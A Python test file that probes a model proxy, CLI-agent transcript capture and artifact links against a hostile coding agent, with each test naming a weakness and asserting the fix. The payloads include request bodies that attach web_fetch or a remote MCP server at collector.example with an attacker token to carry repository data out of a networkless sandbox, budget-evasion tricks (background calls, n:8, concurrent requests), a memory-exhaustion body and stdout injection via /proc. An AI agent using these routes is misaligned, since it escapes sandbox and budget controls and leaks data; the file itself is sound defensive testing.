"""Attacks on the per-task model proxy, the CLI agents' transcripts and the task artifacts, from
an agent that is hostile (its instructions came from an issue) and from anyone on the internet.

Each test names the weakness it shows and asserts the safe behaviour: it fails while the
weakness is there and passes once it is fixed. The proxy is the real one, over its Unix
socket, in front of a loopback model API that records what reaches it; the artifact links go
through the real Flask app.
"""

from __future__ import annotations

import json
import threading
import tracemalloc
from typing import Any

import pytest
from flask import Response

from app import create_app
from app.budget import Budget
from app.settings import Settings
from app.store import Store
from runner.agent import TRANSCRIPT_RESULT_LIMIT
from runner.artifacts import TRANSCRIPT, LocalArtifacts
from runner.cli_agents import ClaudeCodeReader, _Lines
from runner.redaction import redactor_for
# The proxy's own test fixtures: one loopback upstream that records what the proxy forwards.
from tests.test_model_proxy import (GPT, MODEL, TOKEN, CannedUpstream, canned,  # noqa: F401
                                    http, make_proxy, message, socket_dir)

TASK = "0123456789abcdef0123456789abcdef"


def _bodies(upstream: CannedUpstream) -> list[Any]:
    return [forwarded["json"] for forwarded in upstream.requests]


# The model proxy: what a request body can ask the model API to do besides answering.

# Tools the model API runs itself; client tools (custom ones, bash_*, text_editor_*) run in the
# sandbox.
SERVER_TOOLS = ("web_fetch", "web_search", "code_execution", "mcp")
SERVER_SIDE = {
    # The API fetches any URL the conversation names: a way out of a sandbox with no network.
    "web_fetch": {"tools": [{"type": "web_fetch_20250910", "name": "web_fetch", "max_uses": 50}]},
    # The API searches the web, billed per search outside the token usage the proxy counts.
    "web_search": {"tools": [{"type": "web_search_20250305", "name": "web_search",
                              "max_uses": 50}]},
    # The API connects to a server the request names, with a token the request gives, and
    # sends it whatever the model passes to its tools.
    "mcp_servers": {"mcp_servers": [{"type": "url", "url": "https://collector.example/mcp",
                                     "name": "collector",
                                     "authorization_token": "attacker-token"}]},
    # Code runs in the provider's container, billed per hour outside the token usage.
    "code_execution": {"tools": [{"type": "code_execution_20250522",
                                  "name": "code_execution"}]},
}


@pytest.mark.parametrize("extra", list(SERVER_SIDE.values()), ids=list(SERVER_SIDE))
def test_a_request_cannot_make_the_model_api_reach_the_network(make_proxy, canned, extra):
    """Weakness: the proxy forwards the agent's body as it is, checking only `model` and
    `max_tokens`. An agent can add Anthropic's server-side tools (web_fetch, web_search,
    code_execution) or a remote MCP server (`mcp_servers`, with whatever `anthropic-beta` it
    names, which is forwarded too): the model API then fetches URLs, searches, runs code or
    connects to a server of the attacker's choosing, carrying the repository's content out of a
    sandbox that has no network, at costs the token budget never sees.

    Safe: a request naming a server-side tool, `mcp_servers` or a `container` is refused with a
    4xx and nothing reaches the upstream (or those fields are removed before it is forwarded)."""
    canned.reply = lambda body: Response('{"usage": {}}', 200, mimetype="application/json")
    proxy = make_proxy(canned.base_url)
    with http(proxy, **{"x-api-key": TOKEN,
                        "anthropic-beta": "mcp-client-2025-04-04,web-fetch-2025-09-10"}) as client:
        answer = client.post("/v1/messages", json={**message(), **extra})
    forwarded = _bodies(canned)
    leaked = [body for body in forwarded
              if body.get("mcp_servers") or body.get("container") or any(
                  isinstance(tool, dict) and str(tool.get("type", "")).startswith(SERVER_TOOLS)
                  for tool in body.get("tools") or [])]
    assert leaked == [], f"forwarded to the model API (HTTP {answer.status_code}): {leaked}"


OPENAI_SIDE = {
    # Runs after the call returns: the answer, and its usage, come later from a path the proxy
    # does not serve, so the proxy never counts what it costs.
    "background": {"background": True},
    "web_search": {"tools": [{"type": "web_search"}]},
    "remote_mcp": {"tools": [{"type": "mcp", "server_label": "collector",
                              "server_url": "https://collector.example/mcp",
                              "require_approval": "never"}]},
}


@pytest.mark.parametrize("extra", list(OPENAI_SIDE.values()), ids=list(OPENAI_SIDE))
def test_an_openai_call_cannot_run_in_the_background_or_reach_the_network(make_proxy, canned,
                                                                          extra):
    """Weakness: on the OpenAI upstream (the codex agent) the proxy forwards `background: true`,
    which makes the Responses API answer at once with no usage while the call runs on, and
    hosted tools (web_search, a remote `mcp` server) that reach the network from the API.

    Safe: such a request is refused with a 4xx and nothing reaches the upstream."""
    canned.reply = lambda body: Response(json.dumps(
        {"id": "resp_1", "status": "queued", "usage": None}), 200, mimetype="application/json")
    proxy = make_proxy(openai_url=canned.base_url, budget=Budget(tokens=10_000))
    with http(proxy, authorization=f"Bearer {TOKEN}") as client:
        answer = client.post("/v1/responses", json={"model": GPT, "input": "hello",
                                                     "max_output_tokens": 100, **extra})
    assert 400 <= answer.status_code < 500 and canned.requests == [], \
        f"forwarded (HTTP {answer.status_code}): {_bodies(canned)}"


def test_chat_completions_cannot_ask_for_many_answers_at_the_price_of_one(make_proxy, canned):
    """Weakness: the budget check reserves one answer of `max_tokens`, but a Chat Completions
    request with `n: 8` gets eight, each up to `max_tokens`: an agent spends eight times what the
    check let through, past the budget, in one call.

    Safe: `n` above 1 is refused (4xx, nothing forwarded) or forwarded as 1, or the check
    reserves `n` times `max_tokens`; the task's usage stays within its budget."""
    def eight_answers(body: dict[str, Any]) -> Response:
        n = int(body.get("n") or 1)
        cap = int(body.get("max_tokens") or 0)
        return Response(json.dumps({
            "id": "chatcmpl-1", "object": "chat.completion", "model": GPT,
            "choices": [{"index": i, "message": {"role": "assistant", "content": "x"},
                         "finish_reason": "length"} for i in range(n)],
            "usage": {"prompt_tokens": 10, "completion_tokens": n * cap,
                      "total_tokens": 10 + n * cap}}), 200, mimetype="application/json")

    canned.reply = eight_answers
    proxy = make_proxy(openai_url=canned.base_url, budget=Budget(tokens=1_000))
    with http(proxy, authorization=f"Bearer {TOKEN}") as client:
        client.post("/v1/chat/completions", json={
            "model": GPT, "max_tokens": 900, "n": 8,
            "messages": [{"role": "user", "content": "hello"}]})
    assert proxy.usage.tokens <= 1_000, f"{proxy.usage.tokens:,} tokens on a 1,000-token budget"


def test_concurrent_calls_cannot_each_spend_the_rest_of_the_budget_on_input(make_proxy, canned):
    """Weakness: before a call, only its largest answer is reserved, not its input. Calls sent
    at once are all admitted against the same remainder, and each then spends its whole input:
    with up to 32 connections of up to 32 MB each, an agent spends many times its budget before
    the first usage report arrives.

    Safe: calls in flight keep room for an estimate of their input too (their body's length,
    about four characters a token, as the stream meter estimates output), so calls sent together
    spend at most the budget plus the one call that crossed it."""
    calls = 6
    arrived = threading.Condition()

    def held(body: dict[str, Any]) -> Response:
        with arrived:  # answer once every call has reached the upstream, or after a while
            arrived.notify_all()
            arrived.wait_for(lambda: len(canned.requests) >= calls, timeout=3)
        return Response(json.dumps({"usage": {"input_tokens": 1_500, "output_tokens": 5}}), 200,
                        mimetype="application/json")

    canned.reply = held
    proxy = make_proxy(canned.base_url, budget=Budget(tokens=2_000))
    text = "a" * 6_000  # about 1,500 tokens
    statuses: list[int] = []

    def call() -> None:
        with http(proxy, **{"x-api-key": TOKEN}) as client:
            statuses.append(client.post("/v1/messages",
                                        json=message(max_tokens=10, text=text)).status_code)

    threads = [threading.Thread(target=call) for _ in range(calls)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(30)
    assert proxy.usage.tokens <= 2_000 + 1_505, \
        f"{proxy.usage.tokens:,} tokens on a 2,000-token budget ({statuses})"


def test_one_request_cannot_make_the_runner_hold_many_times_its_size(make_proxy, canned):
    """Weakness: the proxy runs in the runner's process, which runs other tasks too. It parses
    every body whole into Python objects: 3 bytes of `[],` become a 72-byte list, so a 32 MB
    body of them holds about 750 MB, and 32 connections at once about 24 GB: an agent takes the
    runner, and every task on it, down.

    Safe: what one request makes the proxy hold stays a small multiple of the body (e.g. a
    bound on the number of JSON values, or a body cap and connection count sized together)."""
    proxy = make_proxy(canned.base_url)
    padding = "[" + ",".join(["[]"] * 700_000) + "]"
    # A model the task may not use: the proxy reads the whole body, refuses it and forwards
    # nothing, so all that is measured is the proxy's own reading of it.
    body = ('{"model": "not-a-task-model", "max_tokens": 16, "messages": [], '
            '"metadata": {"pad": %s}}' % padding).encode()
    with http(proxy, **{"x-api-key": TOKEN, "content-type": "application/json"}) as client:
        tracemalloc.start()
        try:
            refused = client.post("/v1/messages", content=body)
            _, peak = tracemalloc.get_traced_memory()
        finally:
            tracemalloc.stop()
    assert refused.status_code == 403 and canned.requests == []
    assert peak < 8 * len(body), f"{peak / len(body):.0f} times the body's {len(body):,} bytes"


# The CLI agent's transcript: what the runner keeps of the CLI's output.

def test_the_transcript_kept_of_a_cli_agent_is_bounded():
    """Weakness: the runner keeps every event the CLI prints, and clips only tool results given
    as text. A process the agent starts can write straight to the CLI's stdout
    (/proc/<cli>/fd/1: same user, same container; a second exec in a sandbox of the test image
    writes into a running exec's output this way), and the CLI's own events carry user content
    as a plain string and blocks of any kind: their text is kept whole, as many as are printed.
    The transcript, held in the runner's memory, stored with the task and written whole as an
    artifact, grows without bound.

    Safe: every text kept is clipped like a tool result, whatever block holds it, so the
    transcript of these events stays within a few tool results' worth."""
    reader = ClaudeCodeReader(lambda turn, tool: None)
    lines = _Lines(reader.read)
    big = "x" * 1_000_000
    events = [
        {"type": "user", "message": {"role": "user", "content": big}},
        {"type": "user", "message": {"role": "user", "content": [
            {"type": "tool_result", "tool_use_id": "t1",
             "content": [{"type": "image", "source": {"type": "base64",
                                                      "media_type": "image/png", "data": big}}]}]}},
        {"type": "assistant", "message": {"id": "m1", "model": MODEL, "role": "assistant",
                                          "content": [{"type": "text", "text": big}]}},
    ]
    for event in events:
        lines.add(json.dumps(event).encode() + b"\n")
    lines.close()
    kept = len(json.dumps(reader.transcript))
    assert kept <= len(events) * (TRANSCRIPT_RESULT_LIMIT + 1_000), f"{kept:,} characters kept"


# Artifacts: what is redacted, and the public link route.

def test_artifact_redaction_covers_the_openai_key():
    """Weakness: the artifacts' redactor removes the Anthropic key, the webhook secret, the
    App's private key and the Storage key, but not OPENAI_API_KEY, the key the codex agent's
    proxy holds: one echoed into a transcript or diff is stored and linked as it is.

    Safe: every model key the service holds is redacted from what a task leaves."""
    openai_key = "sk-proj-" + "Q7" * 24
    redactor = redactor_for(Settings(anthropic_api_key="sk-ant-api03-" + "m" * 40,
                                     openai_api_key=openai_key))
    assert openai_key not in redactor.text(f"the API said: invalid key {openai_key}")


@pytest.mark.parametrize("expires", ["²", "¹²³"])
def test_an_artifact_link_with_an_odd_expiry_is_refused_not_an_error(tmp_path, expires):
    """Weakness: the public route checks `expires` with str.isdigit(), which is true of
    superscript and other Unicode digits that int() cannot read: anyone on the internet gets a
    500 (an unhandled ValueError) instead of a refusal.

    Safe: any expiry that is not plain ASCII digits is refused with 403, like a wrong one."""
    store = Store(tmp_path / "async-code.db")
    store.initialise()
    settings = Settings(data_dir=str(tmp_path))
    LocalArtifacts(settings.artifacts_path, key=store.artifact_key(),
                   base_url="http://async-code.test").put(TASK, TRANSCRIPT, b"[]")
    app = create_app(settings, store)
    app.config["PROPAGATE_EXCEPTIONS"] = False  # as deployed: an error is a 500, not a raise
    client = app.test_client()
    answer = client.get(f"/artifacts/{TASK}/{TRANSCRIPT}",
                        query_string={"expires": expires, "sig": "0" * 64})
    assert answer.status_code == 403
